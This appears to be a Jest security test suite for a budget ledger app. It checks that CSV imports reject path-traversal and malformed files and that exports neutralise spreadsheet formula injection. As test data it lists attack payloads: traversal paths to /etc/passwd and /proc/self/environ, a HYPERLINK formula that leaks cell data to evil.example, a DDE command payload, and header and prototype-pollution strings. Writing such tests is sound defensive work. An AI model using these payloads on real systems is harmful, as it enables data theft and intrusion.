import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { tables } from '../../apps/ledger/testing/ledger-under-test.fixture.ts';
import { AttackedLedger, LINE } from './attacked-ledger.fixture.ts';

const PROJECTS = 'no,code,name_th,budget_m\n1,P01,Digital ID,42.7377\n';
const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")';
const FORMULAS = [
  HYPERLINK,
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '＝1+1',
  ' =1+1',
  '"=1"',
  ';=1',
];
/** What a spreadsheet takes for a formula when a cell begins with it. */
const RUNS = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/u;
const FIGURE = /^-?\d+(?:\.\d+)?$/;

let ledger: AttackedLedger;
let maker: string;
let reader: string;

beforeAll(async () => {
  ledger = await AttackedLedger.open();
  maker = await ledger.person('malee', ['maker']);
  reader = await ledger.person('anong', ['auditor']);
  await ledger.project(maker, 'P01', { name: HYPERLINK });
  for (const [index, text] of FORMULAS.entries()) {
    const order = {
      commitment: `PO-${String(10 + index)}`,
      line: LINE,
      amount: '1.00',
      effectiveOn: '2025-11-01',
    };
    const body = { ...order, description: text, reason: text };
    await ledger.served.must('budget-accounts/2569/P01/commitments', { token: maker, body });
  }
});
afterAll(() => ledger.close());

const importing = (files: readonly object[]) => () =>
  ledger.ask('imports?organisation=main', { token: maker, body: { files } });

describe('a table that is taken over', () => {
  it.each([
    '../../../../etc/passwd',
    '../ledger.sqlite',
    '..',
    '/etc/passwd',
    '/proc/self/environ',
    'deep/projects.csv',
    '..\\..\\projects.csv',
    'C:\\projects.csv',
    '\\\\server\\share\\projects.csv',
    'projects.csv\u0000.txt',
    'projects\n.csv',
    '%2e%2e%2faccess.key',
    '..%c0%af..%c0%afaccess.key',
    'file:///etc/passwd',
    'https://evil.example/projects.csv',
    '~/projects.csv',
    '\u202evsc.stcejorp',
    '',
  ])('is not called %j: no name leads out of the folder, since none leads anywhere', async (name) => {
    const { text } = await ledger.withstands(importing([{ name, content: PROJECTS }]), 400, 'import-faulty');
    expect(text).not.toMatch(/root:x|SQLite format|PATH=/);
  });

  it('reads and writes no file that bears its name', async () => {
    for (const name of ['access.key', 'ledger.sqlite', 'identities.sqlite', 'package.json', '.env']) {
      const { text } = await ledger.leavesNothing(importing([{ name, content: PROJECTS }]));
      expect(text).not.toMatch(/SQLite format|devDependencies/);
    }
  });

  it('is neither endless nor one of endlessly many', async () => {
    const many = Array.from({ length: 101 }, (_, at) => ({ name: `t${String(at)}.csv`, content: PROJECTS }));
    await ledger.withstands(importing(many), 400, 'input-invalid');
    const long = { name: 'projects.csv', content: 'x'.repeat(16_000_001) };
    await ledger.withstands(importing([long]), 400, 'input-invalid');
    const longer = { name: 'projects.csv', content: 'x'.repeat(33 * 1024 * 1024) };
    await ledger.withstands(importing([longer]), 400, 'body-too-large');
  });

  it.each([
    ['a quote that never ends', 'no,code\n1,"P01\n'],
    ['a row of ten thousand cells', `no,code\n${'x,'.repeat(10_000)}\n`],
    ['a header of what all objects share', '__proto__,constructor,toString\n1,2,3\n'],
    ['an endless number', `no,code,name_th,budget_m\n1,P01,x,${'9'.repeat(5_000)}\n`],
    ['NULs', 'no,code\n\u0000,\u0000\n'],
    ['nothing', ''],
  ])('with %s is refused', async (_, content) => {
    await ledger.withstands(importing([{ name: 'projects.csv', content }]), 400, 'import-faulty');
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it('is taken over from nobody who may not post', async () => {
    const asking = () => ledger.ask('imports', { token: reader, body: { files: tables() } });
    await ledger.withstands(asking, 403, 'role-missing');
    const nobody = () => ledger.ask('imports', { body: { files: tables() } });
    await ledger.withstands(nobody, 401, 'not-signed-in');
  });

  it('is compared without being opened either', async () => {
    for (const name of ['../../etc/passwd', '/etc/passwd', 'x\u0000', '\r\nset-cookie: a=b']) {
      const body = { file: { name, content: 'root:x:0:0' }, fiscalYear: 2569, quarter: 'Q1' };
      const comparing = () => ledger.ask('reconcile', { token: reader, body });
      const { headers } = await ledger.withstands(comparing, 400, 'published-table-faulty');
      expect(headers['set-cookie']).toBeUndefined();
    }
  });
});

describe('a text for a spreadsheet to run', () => {
  it.each([
    'budget-accounts?fiscalYear=2569',
    'commitments?fiscalYear=2569',
    'journal',
    'journal?actor=%3D1%2B1',
    'reports/quarterly?fiscalYear=2569&quarter=Q1',
    'reports/budget-book?fiscalYear=2569',
    'reports/budget-status?fiscalYear=2569',
    'explain?fiscalYear=2569&quarter=Q1&project=P01&measure=committed',
    'diff?fiscalYear=2569&quarter=Q1&from=3',
    'readings',
  ])('is text in the export of %s', async (path) => {
    // The reading log repeats what was asked, whoever asked it.
    await ledger.ask(`journal?document=%3D1&actor=${encodeURIComponent(HYPERLINK)}`, { token: reader });
    const csv = `${path}${path.includes('?') ? '&' : '?'}format=csv`;
    const answer = await ledger.leavesNothing(() => ledger.ask(csv, { token: reader }));
    expect([answer.status, answer.headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    const rows: string[][] = parse(answer.text, { relax_column_count: true });
    const cells = rows.flat();
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((cell) => RUNS.test(cell) && !FIGURE.test(cell))).toEqual([]);
  });

  it('stands there as it was written, so that the export above does hold it', async () => {
    const { text } = await ledger.ask('commitments?fiscalYear=2569&format=csv', { token: reader });
    const rows: Record<string, string>[] = parse(text, { columns: true });
    const harmless = FORMULAS.map((text) => (RUNS.test(text) ? `'${text}` : text));
    expect(rows.map(({ description }) => description)).toEqual(harmless);
  });
});
